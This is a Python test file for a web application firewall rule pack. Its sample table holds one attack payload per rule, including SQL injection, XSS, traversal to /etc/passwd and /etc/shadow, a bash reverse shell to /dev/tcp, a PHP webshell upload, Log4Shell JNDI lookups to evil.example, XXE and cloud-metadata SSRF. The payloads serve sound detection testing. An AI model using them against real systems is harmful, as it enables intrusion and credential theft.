"""The default rule pack (configs/rules.waf.yaml): every rule has a test, the evaluation corpus
meets the detection and false-positive targets, and no input makes it slow."""

from __future__ import annotations

import random
import string
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import yaml
from waf_corpus import attack_requests, benign_requests, inspection

from openflare.waf.compile import Ruleset
from openflare.waf.engine import evaluate
from openflare.waf.rules import WafRules
from openflare.waf.targets import Inspection

PACK = Path(__file__).resolve().parents[3] / "configs" / "rules.waf.yaml"


def _load(**overrides: Any) -> Ruleset:
    data = yaml.safe_load(PACK.read_text())
    data.update(overrides)
    return WafRules.model_validate(data).compiled


RULESET = _load()
RULESET_PL4 = _load(paranoia=4)

BROWSER = [
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 Firefox/125.0"),
    ("Accept", "*/*"),
]


def req(
    target: str = "/",
    *,
    method: str = "GET",
    headers: list[tuple[str, str]] | None = None,
    body: bytes | None = None,
    content_type: str | None = None,
    replace_headers: bool = False,
) -> Inspection:
    all_headers = list(headers or []) if replace_headers else [*BROWSER, *(headers or [])]
    if content_type:
        all_headers.append(("Content-Type", content_type))
    path, _, query = target.partition("?")
    return Inspection(
        method=method,
        raw_target=target,
        path=path,
        query=query,
        headers=all_headers,
        client_ip="198.51.100.4",
        body=body,
        body_size=len(body or b""),
    )


# One request per rule that this rule (at least) must match.
RULE_SAMPLES: dict[str, Inspection] = {
    "sqli-union-select": req("/?id=1%20UNION%20ALL%20SELECT%20null,version()--"),
    "sqli-tautology": req("/?user=admin%27%20OR%20%271%27%3D%271"),
    "sqli-comment-terminator": req("/?user=admin%27--"),
    "sqli-stacked-query": req("/?id=1;%20DROP%20TABLE%20users"),
    "sqli-time-based": req("/?id=1%20AND%20SLEEP(5)"),
    "sqli-functions": req("/?id=1%20AND%20extractvalue(1,concat(0x7e,version()))"),
    "sqli-order-group-having": req("/?id=1%27%20ORDER%20BY%2010--"),
    "sqli-mssql-oracle": req("/?id=1;exec%20master..xp_cmdshell%20%27dir%27"),
    "xss-script-tag": req("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "xss-event-handler": req("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    "xss-javascript-uri": req("/?next=javascript:alert(document.domain)"),
    "xss-dangerous-tags": req("/?q=%3Ciframe%20src=//evil.example%3E"),
    "xss-js-context": req("/?q=%27;alert(String.fromCharCode(88))//"),
    "lfi-traversal": req("/?file=../../../../etc/passwd"),
    "lfi-single-dotdot": req("/?file=../config"),
    "lfi-sensitive-files": req("/?file=/etc/shadow"),
    "lfi-system-files": req("/?file=/etc/nginx/nginx.conf"),
    "lfi-wrappers": req("/?page=php://filter/convert.base64-encode/resource=index"),
    "rce-unix-command": req("/?host=127.0.0.1;cat%20/etc/passwd"),
    "rce-shell-artifacts": req("/?x=bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261"),
    "rce-windows": req("/?x=%26%20net%20user%20admin%20x%20/add"),
    "php-injection": req("/?code=%3C?php%20system($_GET[c]);%20?%3E"),
    "php-webshell-upload": req(
        "/upload",
        method="POST",
        body=b'--B\r\nContent-Disposition: form-data; name="f"; filename="s.php"\r\n\r\n'
        b"<?php system($_GET['c']); ?>\r\n--B--\r\n",
        content_type="multipart/form-data; boundary=B",
    ),
    "java-log4shell": req("/", headers=[("X-Api-Version", "${jndi:ldap://evil.example/a}")]),
    "java-code-injection": req("/?x=T(java.lang.Runtime).getRuntime().exec(%27id%27)"),
    "ssti-expressions": req("/?name=%7B%7B7*7%7D%7D"),
    "ssi-injection": req("/?x=%3C!--%23exec%20cmd=%22id%22%20--%3E"),
    "ssrf-cloud-metadata": req("/?url=http://169.254.169.254/latest/meta-data/"),
    "ssrf-loopback-url": req("/?url=http://127.0.0.1:6379/"),
    "nosql-operators": req("/login?user%5B%24ne%5D=x&pass%5B%24ne%5D=x"),
    "nosql-js-injection": req("/?q=%27;%20return%20true;%20var%20x=%27"),
    "ldap-injection": req("/?user=*)(uid=*))(|(uid=*"),
    "mail-header-injection": req("/?email=a@example.com%0d%0aBcc:%20x@evil.example"),
    "xxe-entities": req(
        "/api",
        method="POST",
        body=b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<r>&x;</r>",
        content_type="application/xml",
    ),
    "crlf-injection": req("/?r=%0d%0aSet-Cookie:%20a=b"),
    "scanner-user-agents": req("/", headers=[("User-Agent", "sqlmap/1.7")], replace_headers=True),
    "scanner-headers": req("/", headers=[("Acunetix-Product", "WVS")]),
    "protocol-smuggling": req(
        "/",
        method="POST",
        body=b"x",
        headers=[("Content-Length", "1"), ("Transfer-Encoding", "chunked")],
    ),
    "protocol-method": req("/", method="TRACE"),
    "protocol-get-with-body": req("/", body=b"hello"),
    "protocol-null-byte": req("/?file=a%00.jpg"),
    "protocol-host-header": req(
        "/", headers=[("Host", "shop.example.com@evil.example")], replace_headers=True
    ),
    "protocol-range-abuse": req("/", headers=[("Range", "bytes=" + ",".join(["1-2"] * 20))]),
    "protocol-access-override-headers": req("/", headers=[("X-Original-URL", "/admin")]),
    "protocol-invalid-body": req(
        "/api", method="POST", body=b'{"a": ', content_type="application/json"
    ),
    "protocol-invalid-url-encoding": req("/?q=%zz"),
    "protocol-xml-dtd": req(
        "/api",
        method="POST",
        body=b'<!DOCTYPE a SYSTEM "a.dtd"><a/>',
        content_type="application/xml",
    ),
    "protocol-missing-user-agent": req("/", headers=[("Host", "x")], replace_headers=True),
    "protocol-long-argument": req("/?q=" + "a" * 5000),
    "ssrf-private-network": req("/?url=http://10.0.0.5/admin"),
    "sqli-select-from-where": req("/?q=select%20name%20from%20users%20where%20id%3D1"),
}


def test_every_rule_of_the_pack_has_a_sample() -> None:
    ids = {rule.id for rule in RULESET_PL4.rules}
    assert ids == set(RULE_SAMPLES)


@pytest.mark.parametrize("rule_id", sorted(RULE_SAMPLES))
def test_rule_matches_its_sample(rule_id: str) -> None:
    verdict = evaluate(RULESET_PL4, RULE_SAMPLES[rule_id])
    assert rule_id in verdict.rule_ids, verdict.rule_ids


def _rates() -> tuple[Counter[str], Counter[str], list[str], int]:
    detected: Counter[str] = Counter()
    total: Counter[str] = Counter()
    for request in attack_requests():
        total[request.label] += 1
        seen = inspection(request)
        if seen is None or evaluate(RULESET, seen).blocked:  # None: normalization's 400
            detected[request.label] += 1
    false_positives = []
    benign = 0
    for request in benign_requests():
        benign += 1
        seen = inspection(request)
        if seen is None or evaluate(RULESET, seen).blocked:
            false_positives.append(f"{request.label}/{request.placement}: {request.payload!r}")
    return detected, total, false_positives, benign


def test_corpus_detection_and_false_positive_rates() -> None:
    """The targets of the WAF issue, at paranoia 1: at least 90% of attacks blocked (here
    per category too), fewer than 1% of benign requests."""
    detected, total, false_positives, benign = _rates()
    overall = sum(detected.values()) / sum(total.values())
    assert sum(total.values()) > 5000 and benign > 400
    assert overall >= 0.95, overall
    for category in total:
        assert detected[category] / total[category] >= 0.9, (category, detected[category])
    assert len(false_positives) / benign < 0.01, false_positives


SHAPES = {
    "random": lambda n: "".join(random.Random(7).choices(string.printable, k=n)),
    "quotes": lambda n: "' or " * (n // 5),
    "brackets": lambda n: "<" * (n // 2) + ">" * (n // 2),
    "percent": lambda n: "%25" * (n // 3),
    "entities": lambda n: "&#x" * (n // 3),
    "backslashes": lambda n: "\\u" * (n // 2),
    "dots": lambda n: "../" * (n // 3),
    "base64": lambda n: "QUJD" * (n // 4),
    "comments": lambda n: "/*" * (n // 2),
    "shell": lambda n: ";`$(" * (n // 4),
    "template": lambda n: "{{${" * (n // 4),
}


def _cost(shape: str, size: int) -> float:
    value = SHAPES[shape](size)
    body = ('{"v": "' + value.replace("\\", "\\\\").replace('"', '\\"') + '"}').encode()
    request = Inspection(
        method="POST",
        raw_target="/api",
        path="/api",
        query="",
        headers=[*BROWSER, ("Content-Type", "application/json"), ("X-Long", value[:8000])],
        client_ip="198.51.100.4",
        body=body,
        body_size=len(body),
    )
    started = time.process_time()
    evaluate(RULESET_PL4, request)
    return time.process_time() - started


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_pathological_megabyte_against_every_rule_is_linear(shape: str) -> None:
    """A 1 MB body of the worst characters for each family of rules, against the whole pack at
    paranoia 4: time grows linearly with size (RE2, one-pass transforms and parsers)."""
    _cost(shape, 16_384)  # warm the DFA caches
    quarter = min(_cost(shape, 262_144) for _ in range(2))
    full = min(_cost(shape, 1_048_576) for _ in range(2))
    assert full < quarter * 8 + 0.2, (shape, quarter, full)
    assert full < 10.0, (shape, full)
